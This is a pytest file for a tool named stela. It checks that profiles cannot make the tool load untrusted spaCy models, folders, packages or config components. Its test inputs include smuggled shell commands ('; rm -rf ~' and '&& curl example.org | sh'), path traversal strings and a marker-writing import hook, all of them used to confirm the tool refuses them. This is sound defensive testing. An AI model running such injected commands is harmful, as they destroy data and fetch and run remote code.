"""Models of strangers: a profile names what is known, and a spaCy folder runs nothing."""

from __future__ import annotations

import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest
import stela_penn
from stela_penn import Penn
from stela_testing import run_cli

import stela_core as stela

MODEL = Path(stela_penn.__file__).parent / "model"
TEXT = "The old dog slept near the door. She has written three long letters to her brother."


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    file = tmp_path_factory.mktemp("profile") / "p.stela"
    command = ["profile", "new", "--scheme", "stela", "--tagger", "penn", "--model", "tiny", "--public-key"]
    assert run_cli(*command, "-o", str(file)).status == 0
    return file


@pytest.fixture
def package(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An installed package, ``of_a_stranger``, that makes a file when it is imported: returns that file."""
    marker = tmp_path / "marker"
    site = tmp_path / "site"
    (site / "of_a_stranger").mkdir(parents=True)
    code = (
        f"from pathlib import Path\nPath({str(marker)!r}).touch()\ndef load(**_): raise OSError('no model')\n"
    )
    (site / "of_a_stranger" / "__init__.py").write_text(code, encoding="utf-8")
    (site / "of_a_stranger-1.dist-info").mkdir()
    metadata = "Metadata-Version: 2.1\nName: of_a_stranger\nVersion: 1\n"
    (site / "of_a_stranger-1.dist-info" / "METADATA").write_text(metadata, encoding="utf-8")
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.chdir(tmp_path)
    return marker


def with_tagger(profile: Path, to: Path, **changes: str) -> Path:
    """A copy of a profile whose tagger is named otherwise."""
    with zipfile.ZipFile(profile) as source, zipfile.ZipFile(to, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "profile.json":
                content = json.loads(data)
                content["tagger"] |= changes
                data = json.dumps(content).encode()
            target.writestr(name, data)
    return to


def refused(*arguments: object) -> str:
    """The one line that the command line says."""
    found = run_cli(*arguments)
    assert found.status == 2
    assert found.out == ""
    [line] = found.err.splitlines()
    return line


@pytest.fixture
def text(tmp_path: Path) -> Path:
    (tmp_path / "text.txt").write_text(TEXT, encoding="utf-8")
    return tmp_path / "text.txt"


@pytest.mark.parametrize(
    "model",
    [
        "of_a_stranger",
        "../model",
        "https://example.org/m.zip",
        *(
            pytest.param(name, marks=pytest.mark.slow)
            for name in (
                "numpy", "model", "./model", "en_core_web_sm; rm -rf ~", "",
                "en_core_web_sm && curl example.org | sh", "\x1b[2J", "de_core_news_sm",
            )
        ),
    ],
)  # fmt: skip
def test_a_profile_names_known_models_alone(
    model: str, profile: Path, package: Path, text: Path, tmp_path: Path
) -> None:
    shutil.copytree(MODEL, tmp_path / "model")
    mine = with_tagger(profile, tmp_path / "mine.stela", model=model)
    line = refused("detect", "--profile", mine, text)
    assert "is not one that a profile may load. hint: name the model yourself: --tagger penn:FOLDER" in line
    _, _, hint = line.partition(" hint: ")
    assert not model or model not in hint.replace("--tagger penn:FOLDER", "").replace("the model", "")
    assert not package.exists()


@pytest.mark.slow
def test_the_path_of_a_folder_is_not_loaded(profile: Path, text: Path, tmp_path: Path) -> None:
    """Even that of a good model: the user names it."""
    shutil.copytree(MODEL, tmp_path / "model")
    mine = with_tagger(profile, tmp_path / "mine.stela", model=str(tmp_path / "model"))
    refused("detect", "--profile", mine, text)
    [by_folder] = run_cli(
        "detect", "--profile", mine, "--tagger", f"penn:{tmp_path / 'model'}", text, "--json"
    ).json
    [own] = run_cli("detect", "--profile", profile, text, "--json").json
    assert by_folder.pop("caveat") is not None  # the changed profile is a stranger's
    assert own.pop("caveat") is None
    assert by_folder == own


@pytest.mark.slow
def test_generation_takes_the_folder_too(profile: Path, tmp_path: Path) -> None:
    shutil.copytree(MODEL, tmp_path / "model")
    mine = with_tagger(profile, tmp_path / "mine.stela", model="my own")
    command = ["generate", "--profile", mine, "--model", "tiny", "--prompt", "The", "--max-new-tokens", "4"]
    refused(*command)
    assert run_cli(*command, "--tagger", f"penn:{tmp_path / 'model'}").status == 0


def test_a_package_that_is_no_model_is_not_imported(profile: Path, package: Path, text: Path) -> None:
    line = refused("detect", "--profile", profile, "--tagger", "penn:of_a_stranger", text)
    assert 'there is no spaCy model "of_a_stranger"' in line
    with pytest.raises(stela.StelaError, match="there is no spaCy model"):
        Penn(Penn.Parameters(model="of_a_stranger"))
    assert not package.exists()


@pytest.mark.slow
def test_another_folder_is_refused_before_it_is_loaded(
    profile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.copytree(MODEL, tmp_path / "model")
    assert stela.load(profile, tagger=f"penn:{tmp_path / 'model'}").contexts is not None
    with (tmp_path / "model" / "meta.json").open("a") as file:
        file.write("\n")
    monkeypatch.setattr("spacy.load", lambda *_, **__: pytest.fail("loaded"))
    with pytest.raises(stela.StelaError, match="wrong tagger"):
        stela.load(profile, tagger=f"penn:{tmp_path / 'model'}")


@pytest.mark.slow
def test_a_tagger_that_is_loaded_already(profile: Path) -> None:
    penn = Penn()
    mark = stela.load(profile, tagger=penn)
    assert mark.contexts is not None
    assert mark.contexts.tagger is penn
    assert mark.detect(TEXT).to_dict(True) == stela.load(profile).detect(TEXT).to_dict(True)


@pytest.mark.slow
def test_a_known_name_is_no_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Else a profile could name a folder beside it so."""
    monkeypatch.chdir(tmp_path)
    shutil.copytree(MODEL, tmp_path / "en_core_web_trf")
    with pytest.raises(stela.StelaError, match="is not installed") as caught:
        Penn(Penn.Parameters(model="en_core_web_trf"))
    assert caught.value.hint == "python -m spacy download en_core_web_trf"
    assert Penn(Penn.Parameters(model="./en_core_web_trf")).tag([TEXT]) == Penn().tag([TEXT])


def component(**changes: Any) -> dict[str, Any]:
    return {"components": {"tagger": changes}}


@pytest.mark.parametrize(
    ("where", "value", "said"),
    [
        ("components.tagger.factory", "llm", "'llm'"),
        ("components.tagger.source", "of_a_stranger", "spaCy model"),
        ("components.tagger.model.@architectures", "of_a_stranger.Net.v1", "of_a_stranger.Net.v1"),
        ("components.tagger.model.tok2vec.embed.@architectures", "other.Embed.v1", "other.Embed.v1"),
        ("components.tagger.model.tok2vec.@architectures", "spacy.TorchBiLSTMEncoder.v1", "TorchBiLSTM"),
        ("components.tagger.scorer.@scorers", "${paths.scorer}", "paths.scorer"),
        ("nlp.before_creation.@callbacks", "spacy.copy_from_base_model.v1", "copy_from_base_model"),
        ("nlp.tokenizer.@tokenizers", "of_a_stranger.Tokenizer.v1", "of_a_stranger"),
        ("nlp.lang", "..evil", "..evil"),
    ],
)
def test_a_folder_names_spacys_own_parts_alone(
    where: str, value: str, said: str, package: Path, tmp_path: Path
) -> None:
    from thinc.api import Config

    shutil.copytree(MODEL, tmp_path / "model")
    file = tmp_path / "model" / "config.cfg"
    config = Config().from_disk(file, interpolate=False)
    *path, last = where.split(".", where.count("."))
    place: Any = config
    for key in path:
        place[key] = place[key] if isinstance(place.get(key), dict) else {}
        place = place[key]
    if where == "nlp.before_creation.@callbacks":
        place |= {"tokenizer": "of_a_stranger", "vocab": "of_a_stranger"}
    if where == "components.tagger.source":
        place.pop("factory")
    place[last] = value
    config.to_disk(file, interpolate=False)
    with pytest.raises(stela.StelaError, match="spaCy model") as caught:
        Penn(Penn.Parameters(model=str(tmp_path / "model")))
    assert said in caught.value.message
    assert "\n" not in str(caught.value)
    assert not package.exists()
